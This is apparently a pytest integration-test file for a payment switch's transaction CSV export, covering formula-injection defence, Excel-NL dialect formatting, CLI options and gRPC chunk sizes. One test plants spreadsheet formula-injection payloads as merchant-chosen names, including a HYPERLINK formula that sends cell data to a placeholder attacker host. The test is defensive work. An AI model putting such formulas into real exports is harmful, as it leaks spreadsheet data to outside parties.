"""The operator's CSV export (`txswitch admin export-transactions`) holds text that merchants and
their terminals choose (transaction ids, device and location names). A cell that starts with = + - @
is run as a formula by the spreadsheet the operator opens it in (CSV / formula injection)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import grpc
import pytest
from sqlalchemy import insert, select

from protocols.wire import backoffice_pb2 as bo
from switch import cli
from switch.cli import export_transactions
from switch.store.schema import transactions
from tests.integration.harness import ADMIN_TOKEN, World, world_fixture
from tests.integration.test_portal import days, sign_in, stub

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(params=["sqlite"])
def world(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[World]:
    yield from world_fixture(request, tmp_path, terminals=0)


def test_exported_cells_chosen_by_a_merchant_are_not_spreadsheet_formulas(world: World) -> None:
    world.server.core.admin.add_location(world.merchant_id, "@SUM(A1:A9)")
    terminal = world.activate("=1+2", location="@SUM(A1:A9)")
    card = world.issue(5_000)
    txn = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    assert terminal.redeem(card, 100, txn).response_code == "00"
    out = io.StringIO()
    export_transactions(world.backoffice, bo.TransactionReportRequest(**days()), world.admin_metadata, out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    (row,) = [r for r in rows if r["transaction_type"] == "redemption"]
    cells = {name: row[name] for name in ("transaction_id", "device_name", "location_name")}
    formulas = {name: value for name, value in cells.items() if value.startswith(FORMULA_STARTS)}
    assert not formulas, f"cells a spreadsheet runs as formulas: {formulas}"


def test_a_refused_export_writes_no_line(world: World) -> None:
    out = io.StringIO()
    request = bo.TransactionReportRequest(merchant_id="mer_unknown", **days())
    with pytest.raises(grpc.RpcError) as refused:
        export_transactions(world.backoffice, request, world.admin_metadata, out)
    assert (refused.value.code(), refused.value.details()) == (
        grpc.StatusCode.NOT_FOUND,
        "merchant_id 'mer_unknown': no such merchant",
    )
    assert out.getvalue() == ""


def test_the_export_for_a_dutch_or_belgian_excel(world: World) -> None:
    world.server.core.admin.add_location(world.merchant_id, "Café Zoë; Noord")
    terminal = world.activate("Kassa 1", location="Café Zoë; Noord")
    card = world.issue(100_000)
    assert terminal.redeem(card, 98_765).response_code == "00"
    out = io.StringIO()
    request = bo.TransactionReportRequest(types=["redemption"], **days())
    export_transactions(world.backoffice, request, world.admin_metadata, out, "excel-nl")
    text = out.getvalue()
    assert text.startswith("\ufefftime;terminal_id;") and text.endswith("\r\n")
    (row,) = csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";")
    assert (row["location_name"], row["requested"], row["approved"]) == (
        "Café Zoë; Noord",
        "987,65",
        "987,65",
    )
    machines = io.StringIO()  # without a dialect: RFC 4180, as before, for programs reading it
    export_transactions(world.backoffice, request, world.admin_metadata, machines)
    assert machines.getvalue().startswith("time,terminal_id,")
    (row,) = csv.DictReader(io.StringIO(machines.getvalue(), newline=""))
    assert (row["location_name"], row["approved"]) == ("Café Zoë; Noord", "987.65")


def test_the_portal_exports_for_excel_unless_asked_otherwise(world: World) -> None:
    assert world.activate("Kassa 1").redeem(world.issue(5_000), 250).response_code == "00"
    login = sign_in(world)
    portal = stub(world)

    def exported(dialect: str) -> bytes:
        request = bo.TransactionExportRequest(report=bo.TransactionReportRequest(**days()), dialect=dialect)
        return b"".join(chunk.csv for chunk in portal.ExportTransactions(request, metadata=login, timeout=20))

    excel = exported("")
    assert excel.startswith("\ufefftime;".encode()) and b";2,50;2,50;" in excel
    assert exported("rfc4180").startswith(b"time,") and b",2.50,2.50," in exported("rfc4180")
    with pytest.raises(grpc.RpcError) as refused:
        exported("excel")
    assert (refused.value.code(), refused.value.details()) == (
        grpc.StatusCode.INVALID_ARGUMENT,
        "dialect 'excel' is not one of excel-nl, rfc4180",
    )


def test_the_admin_command_takes_the_dialect(
    world: World, tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    assert world.activate("Kassa 1").redeem(world.issue(5_000), 250).response_code == "00"
    (tmp_path / "admin.token").write_text(ADMIN_TOKEN)
    base = ["admin", "--data-dir", str(tmp_path), "--target", world.server.address, "export-transactions"]
    dates = [f"{key}={value}" for key, value in days().items()]
    assert cli.main([*base, "dialect=excel-nl", *dates]) == 0
    written = capsysbinary.readouterr().out
    assert written.startswith(b"\xef\xbb\xbftime;terminal_id;") and b";2,50;2,50;" in written
    assert cli.main([*base, *dates]) == 0
    assert capsysbinary.readouterr().out.startswith(b"time,terminal_id,")
    assert cli.main([*base, "dialect=nl", *dates]) == 1
    assert b"dialect 'nl' is not one of excel-nl, rfc4180" in capsysbinary.readouterr().err


LONG_NAME = '"😀' * 60  # 120 characters, as long as a name may be: 362 bytes once quoted in CSV
CLIENT_MESSAGE_BYTES_MAX = 4 * 1024 * 1024  # what a gRPC client takes in one message by default


def test_a_page_of_long_rows_comes_in_chunks_a_client_takes(world: World) -> None:
    """Session 23: a chunk was a page (up to 5,000 rows), so 5,000 long rows made one message above
    the 4 MB a client takes by default, and the export ended RESOURCE_EXHAUSTED at the client."""
    world.server.core.admin.add_location(world.merchant_id, LONG_NAME)
    terminal = world.activate(LONG_NAME, location=LONG_NAME)
    assert terminal.redeem(world.issue(5_000), 100, "t" * 64).response_code == "00"
    engine = world.server.core.store.engine
    with engine.begin() as conn:
        template = conn.execute(
            select(transactions).where(transactions.c.source == terminal.terminal_id)
        ).one()
        values = {k: v for k, v in template._mapping.items() if k != "transaction_pk"}
        conn.execute(
            insert(transactions),
            [
                {**values, "transaction_id": f"{n:064d}", "original_transaction_id": "o" * 64}
                for n in range(4_999)
            ],
        )
    request = bo.TransactionExportRequest(report=bo.TransactionReportRequest(page_size=5_000, **days()))
    chunks = [
        chunk.csv
        for chunk in world.backoffice.ExportTransactions(request, metadata=world.admin_metadata, timeout=60)
    ]
    exported = b"".join(chunks)
    assert len(exported) > CLIENT_MESSAGE_BYTES_MAX, "the rows are long enough to pass the limit in one"
    rows = list(csv.DictReader(io.StringIO(exported.decode())))
    assert len(rows) == 5_000 and {row["location_name"] for row in rows} == {LONG_NAME}
    assert max(len(chunk) for chunk in chunks) <= world.server.settings.export_chunk_bytes_max
